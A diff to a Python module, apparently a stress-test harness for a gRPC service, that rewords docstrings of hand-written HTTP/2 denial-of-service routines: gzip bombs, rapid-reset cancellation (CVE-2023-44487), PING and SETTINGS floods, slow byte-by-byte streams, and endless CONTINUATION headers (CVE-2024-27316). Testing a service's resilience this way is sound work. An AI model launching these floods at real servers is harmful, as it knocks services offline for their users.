@@ -1,6 +1,6 @@
-"""Attacks that no client of gRPC could make: HTTP/2 written by hand (attacks.py runs them).
+"""Attacks that no gRPC client could make: hand-written HTTP/2 (attacks.py runs them).
 
-Each opens connections of its own until the time is up, and returns the bytes sent.
+Each opens its own connections until time is up, and returns the number of bytes sent.
 """
 
 from __future__ import annotations
@@ -18,11 +18,11 @@ STREAM: Final = "/motioncast.v1.MotionTransferService/Stream"
 INFO: Final = "/motioncast.v1.MotionTransferService/GetServerInfo"
 CHECK: Final = "/grpc.health.v1.Health/Check"
 CANCEL: Final = b"\0\0\0\x08"
-ONE_FRAME: Final = 16_000  # bytes of a header block
+ONE_FRAME: Final = 16_000  # bytes of header block in one frame
 
 
 def _until(target: str, end: float, step: Callable[[RawHttp2], None], *, reads: bool = True) -> int:
-    """Repeats a step until the time is up, on a new connection whenever it is hung up on."""
+    """Repeats a step until time is up, reconnecting whenever the server hangs up."""
     sent = 0
     while time.monotonic() < end:
         with RawHttp2(target, reads=reads) as client:
@@ -37,7 +37,7 @@ def _until(target: str, end: float, step: Callable[[RawHttp2], None], *, reads: 
 
 
 def inflated(target: str, end: float) -> int:
-    """Messages of 7 MiB of zeros, some kilobytes of gzip."""
+    """Sends messages of 7 MiB of zeros, compressed to a few kilobytes with gzip."""
     small = gzip.compress(bytes(7 * 2**20))
     body = b"\1" + message(len(small))[1:] + small
 
@@ -49,7 +49,7 @@ def inflated(target: str, end: float) -> int:
 
 
 def cancelled(target: str, end: float) -> int:
-    """Calls that are cancelled in the same breath (CVE-2023-44487)."""
+    """Makes calls and cancels each in the same write (CVE-2023-44487)."""
 
     def step(client: RawHttp2) -> None:
         reset = frame(raw_http2.RST_STREAM, 0, client.next_stream, CANCEL)
@@ -59,7 +59,7 @@ def cancelled(target: str, end: float) -> int:
 
 
 def cancelled_later(target: str, end: float) -> int:
-    """Calls that are cancelled once they have begun, a hundred at a time."""
+    """Makes a hundred calls at a time and cancels them once they have begun."""
 
     def step(client: RawHttp2) -> None:
         streams = [client.call(STREAM) for _ in range(100)]
@@ -71,7 +71,7 @@ def cancelled_later(target: str, end: float) -> int:
 
 
 def questions(target: str, end: float) -> int:
-    """As many questions of health as go through."""
+    """Sends as many health checks as the connection takes."""
 
     def step(client: RawHttp2) -> None:
         asked = frame(DATA, raw_http2.END_STREAM, client.next_stream, message(0))
@@ -81,7 +81,7 @@ def questions(target: str, end: float) -> int:
 
 
 def drops(target: str, end: float) -> int:
-    """A hundred messages that come by the byte, each byte in a frame."""
+    """Sends a hundred messages byte by byte, each byte in its own frame."""
     streams: dict[RawHttp2, Iterator[int]] = {}
 
     def dripping(client: RawHttp2) -> Iterator[int]:
@@ -99,19 +99,19 @@ def drops(target: str, end: float) -> int:
 
 
 def pings(target: str, end: float) -> int:
-    """PINGs, whose answers nobody reads."""
+    """Sends PINGs and never reads the answers."""
     flood = frame(raw_http2.PING, 0, 0, bytes(8)) * 100
     return _until(target, end, lambda client: client.send(flood), reads=False)
 
 
 def settings(target: str, end: float) -> int:
-    """SETTINGS, likewise."""
+    """Sends SETTINGS and never reads the answers."""
     flood = frame(raw_http2.SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") * 100
     return _until(target, end, lambda client: client.send(flood), reads=False)
 
 
 def metadata(target: str, end: float) -> int:
-    """Calls with a frame full of metadata."""
+    """Makes calls with a frame full of metadata."""
     fields = [(b"x%d" % number, b"a" * 1000) for number in range(15)]
 
     def step(client: RawHttp2) -> None:
@@ -121,7 +121,7 @@ def metadata(target: str, end: float) -> int:
 
 
 def endless_metadata(target: str, end: float) -> int:
-    """A header block that goes on and on (CVE-2024-27316 and its like)."""
+    """Sends a header block without end (CVE-2024-27316 and similar)."""
     more = frame(raw_http2.CONTINUATION, 0, 1, field(b"x", b"a" * 1000) * (ONE_FRAME // 1000))
 
     def step(client: RawHttp2) -> None:
